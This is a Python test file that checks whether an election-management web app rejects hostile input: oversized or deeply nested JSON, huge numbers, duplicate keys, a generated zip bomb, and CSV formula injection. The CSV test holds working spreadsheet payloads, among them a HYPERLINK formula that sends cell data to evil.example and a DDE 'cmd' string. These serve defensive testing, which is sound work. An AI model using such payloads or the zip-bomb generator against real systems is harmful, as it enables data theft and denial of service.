"""The attacks on what enters the application — bodies, JSON, numbers, archives, bundles,
CSV — on SQLite and PostgreSQL: each refused with a coded 4xx naming its limit
(docs/security.md)."""

from __future__ import annotations

import io
import json
import time
import zipfile
from typing import Any

import pytest
from _attacks import bearer, client, coded, logged_in_admin, minute
from conftest import small_bundle
from fastapi.testclient import TestClient
from sqlalchemy import text

__all__ = ["client"]

# -- input limits -----------------------------------------------------------------------------


def test_request_body_over_the_limit_413(client: TestClient) -> None:
    body = coded(client.post("/api/v1/login", content=b"{" + b" " * (2 << 20) + b"}",
                             headers={"content-type": "application/json"}), 413, "E-SEC-007")
    assert "1048576" in body["message"]["en"]


def test_deep_json_refused_everywhere(client: TestClient) -> None:
    """JSON nested 100,000 deep used to be a 500 (RecursionError)."""
    c = client
    admin = bearer(c, "admin")
    deep = "[" * 100_000 + "]" * 100_000
    coded(c.post("/api/v1/login", content=deep, headers={"content-type": "application/json"}),
          422, "E-SEC-008")
    coded(c.post("/api/v1/setup/bundle", content='{"parties": ' + deep + "}",
                 headers={**admin, "content-type": "application/json"}), 422, "E-SEC-008")
    csrf = c.get("/api/v1/me", headers=admin).json()["csrf_token"]
    logged_in_admin(c)
    csrf = c.get("/api/v1/me").json()["csrf_token"]
    r = c.post("/admin/import", data={"csrf_token": csrf},
               files={"bundle": ("b.json", ('{"parties": ' + deep + "}").encode(),
                                 "application/json")})
    coded(r, 422, "E-SEC-008")


def test_big_numbers_refused_not_overflowing(client: TestClient) -> None:
    """A 30-digit population: coded, never an OverflowError/500."""
    c = client
    admin = bearer(c, "admin")
    bundle = {"regions": [{"id": "R9", "name": "R9", "population": 10**29}]}
    coded(c.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422, "E-SEC-011")
    bundle["regions"][0]["population"] = 10**15  # under JSON's limit, over the figure's
    body = coded(c.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422, "E-IMP-001")
    assert body["errors"][0]["field"] == "population"
    coded(c.post("/api/v1/minutes", json=minute("D1-S1", {"PA:D1": 10**20}), headers=admin),
          422)


@pytest.mark.parametrize("bad", [True, "12", 12.0])
def test_bool_and_string_counts_refused(client: TestClient, bad: Any) -> None:
    clerk = bearer(client, "clerk1")
    coded(client.post("/api/v1/minutes", json=minute("D1-S1", {"PA:D1": 100, "PB:D1": 50},
                                                       registered=bad), headers=clerk),
          422, "E-API-001")
    coded(client.post("/api/v1/minutes", json=minute("D1-S1", {"PA:D1": bad, "PB:D1": 50}),
                      headers=clerk), 422, "E-API-001")


def test_duplicate_json_keys_refused(client: TestClient) -> None:
    body = '{"user": "coord", "user": "admin", "password": "x"}'
    coded(client.post("/api/v1/login", content=body,
                      headers={"content-type": "application/json"}), 422, "E-SEC-010")


def _bomb(size: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z, \
            z.open("parties.csv", "w", force_zip64=True) as f:
        chunk = b"0" * (1 << 20)
        for _ in range(size >> 20):
            f.write(chunk)
    return buf.getvalue()


def test_zip_bomb_refused_before_inflating(client: TestClient) -> None:
    """300 KB that inflate to 300 MB: refused from the archive's directory, in an instant."""
    c = client
    logged_in_admin(c)
    csrf = c.get("/api/v1/me").json()["csrf_token"]
    bomb = _bomb(300 << 20)
    assert len(bomb) < 1 << 20
    t0 = time.perf_counter()
    r = c.post("/admin/import", data={"csrf_token": csrf},
               files={"bundle": ("b.zip", bomb, "application/zip")})
    coded(r, 422, "E-SEC-013")
    assert time.perf_counter() - t0 < 5
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as z:
        for i in range(100):
            z.writestr(f"f{i}.csv", "id\n")
    r = c.post("/admin/import", data={"csrf_token": csrf},
               files={"bundle": ("m.zip", many.getvalue(), "application/zip")})
    coded(r, 422, "E-SEC-012")


def test_million_vote_keys_refused_quickly(client: TestClient) -> None:
    """A minute with a million vote keys took 49 s: over the body limit (413); 20,000 keys
    under it are over the key limit (E-SEC-009); the model allows 1,000."""
    clerk = bearer(client, "clerk1")
    t0 = time.perf_counter()
    votes = {f"L{i}": 0 for i in range(1_000_000)}
    coded(client.post("/api/v1/minutes", json=minute("D1-S1", votes), headers=clerk), 413,
          "E-SEC-007")
    votes = {f"L{i}": 0 for i in range(20_000)}
    coded(client.post("/api/v1/minutes", json=minute("D1-S1", votes), headers=clerk), 422,
          "E-SEC-009")
    votes = {f"L{i}": 0 for i in range(2_000)}
    coded(client.post("/api/v1/minutes", json=minute("D1-S1", votes), headers=clerk), 422,
          "E-API-001")
    assert time.perf_counter() - t0 < 20


def test_junk_parties_bounded(client: TestClient, Sessions: Any) -> None:
    """300,000 junk parties made every portal page render for 30 s: refused."""
    bundle = {"parties": [{"id": f"P{i}", "name_ar": "x", "name_fr": "x"}
                          for i in range(300_000)]}
    admin = bearer(client, "admin")
    t0 = time.perf_counter()
    body = coded(client.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422,
                 "E-IMP-001")
    assert body["errors"][0]["code"] == "E-SEC-014"
    assert time.perf_counter() - t0 < 20
    with Sessions() as s:
        assert s.execute(text("SELECT count(*) FROM party")).scalar() == 3


def test_women_without_sex_and_future_birth_dates_refused(client: TestClient) -> None:
    """The women's part (arts. 76, 143 of law 59.11 as amended) takes women only; nobody is
    born tomorrow."""
    admin = bearer(client, "admin")
    bundle = small_bundle()
    bundle = {"candidacies": [dict(c, constituency=c["constituency"], code=c["code"] + "X")
                              for c in bundle["candidacies"][:1]]}
    cand = bundle["candidacies"][0]["candidates"]
    cand["women"][0].pop("sex")
    cand["general"][0]["birth_date"] = "2999-01-01"
    body = coded(client.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422,
                 "E-IMP-001")
    assert {e["code"] for e in body["errors"]} >= {"E-SEC-016", "E-SEC-017"}


def test_csv_injection_neutralised_round_trip(client: TestClient, Sessions: Any,
                                              tmp_path: Any) -> None:
    from intikhab.formats.bundle_csv import write_bundle_csv
    from intikhab.services.setup import dump_bundle

    admin = bearer(client, "admin")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    parties = [{"id": "PX", "name_ar": evil, "name_fr": "+cmd|' /C calc'!A0"},
               {"id": "PY", "name_ar": "@SUM(1)", "name_fr": "-2+3"}]
    assert client.post("/api/v1/setup/bundle", json={"parties": parties},
                       headers=admin).status_code == 200
    with Sessions() as s:
        write_bundle_csv(dump_bundle(s), tmp_path / "out")
    text_out = (tmp_path / "out" / "parties.csv").read_text("utf-8")
    for cell in (evil, "+cmd", "@SUM(1)", "-2+3"):
        assert cell not in [c.strip('"') for line in text_out.splitlines()
                            for c in line.split(",") if c.strip('"').startswith(cell[:3])]
    assert "'=HYPERLINK" in text_out and "'@SUM(1)" in text_out and "'-2+3" in text_out


def test_safe_json_loader_limits_named() -> None:
    from intikhab.formats import safejson
    from intikhab.law.errors import InputError

    for doc, code in (("[" * 65 + "]" * 65, "E-SEC-008"),
                      (json.dumps({f"k{i}": 1 for i in range(10_001)}), "E-SEC-009"),
                      ('{"a": 1, "a": 2}', "E-SEC-010"), ("1" * 19, "E-SEC-011")):
        with pytest.raises(InputError) as caught:
            safejson.loads(doc)
        assert caught.value.code == code
    assert safejson.loads('{"s": "[[[[", "n": -12}') == {"s": "[[[[", "n": -12}
